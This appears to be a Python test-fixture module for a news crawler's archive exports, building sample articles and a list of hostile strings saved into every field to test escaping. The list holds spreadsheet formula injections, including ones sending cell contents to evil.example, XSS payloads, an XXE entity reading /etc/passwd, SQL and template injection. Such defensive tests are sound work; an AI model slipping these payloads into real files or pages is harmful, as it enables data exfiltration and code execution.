"""Archives for the tests of exports."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from caliber_crawler.archive import Archive
from caliber_crawler.spiders.caliber import CaliberSpider
from tests.archive.newsroom import NOON, Newsroom, start_run

SITE = CaliberSpider.site
BASE = "https://caliber.az"

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "+1+1",
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "- a list",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@mention",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    'a "quoted" =1+1',
    '"',
    '""',
    "'=1+1",
    "'",
    "a\r\n=1+1",
    "line\nline",
    "line\rline",
    "line\u2028line\u2029line\x85line",
    "tab\tand\x0bvertical\x0cfeed",
    "\x1c\x1d\x1e\x1f",
    "\x7f\x80\x9f",
    "\ufeffmark",
    "\ufffe\uffff",
    "\u202egnp.exe",
    "e\u0301 and \u00e9",
    "\U0001f600 \U0010ffff",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[ x ]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;amp; &#0; &#x1F;",
    "<?xml version='1.0'?>",
    "</title></item></channel></rss>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    '{"json": true}',
    '\\", "injected": "',
    "\\u0000 \\x00",
    "NaN",
    "null",
    "1e309",
    "'; DROP TABLE articles; --",
    "{{ 7 * 7 }}{% include 'x' %}",
    "[link](javascript:alert(1))",
    "%s %d {0} $HOME `id`",
    "WARC/1.1\r\nWARC-Type: response\r\n\r\n",
)


def print_hostile_articles(newsroom: Newsroom, texts: Iterable[str] = HOSTILE) -> None:
    """Save an article for each text, which is the value of every text field."""
    for number, text in enumerate(texts, 1):
        newsroom.save(
            NOON + timedelta(minutes=number),
            article_urls=(f"{BASE}/en/post/{number}",),
            headline=text,
            subtitle=text,
            body=text,
            authors=(text,),
            section_label=text,
            signature=text,
            views=number,
            views_shown=text,
        )


def print_three_editions(path: Path) -> None:
    """Make an archive of six articles: one of January (analytics) and one of February (politics) in each edition."""
    with Archive.open(path, mode="write") as archive:
        archive.sites.store(SITE)
        newsroom = Newsroom(archive, start_run(archive))
        for place, language in enumerate(("en", "ru", "hy")):
            for month, section in enumerate(("analytics", "politics")):
                number = 10 * place + month + 1
                prefix = {"en": "/en", "ru": "", "hy": "/arm"}[language]
                newsroom.save(
                    NOON + timedelta(hours=number),
                    article_urls=(f"{BASE}{prefix}/post/{number}",),
                    language=language,
                    section=section,
                    headline=f"Headline {number} of the corridor" if month else f"Headline {number}",
                    body=f"Body {number}.",
                    published_at=NOON + timedelta(days=31 * month, hours=place),
                    views=number,
                )
        newsroom.save(
            NOON + timedelta(days=2),
            article_urls=(f"{BASE}/en/post/1",),
            headline="Headline 1, changed",
            section="analytics",
            published_at=NOON,
            views=100,
        )


def clear_terms_of_use(archive: Archive) -> None:
    archive.sites.store(replace(SITE, reuse=""))
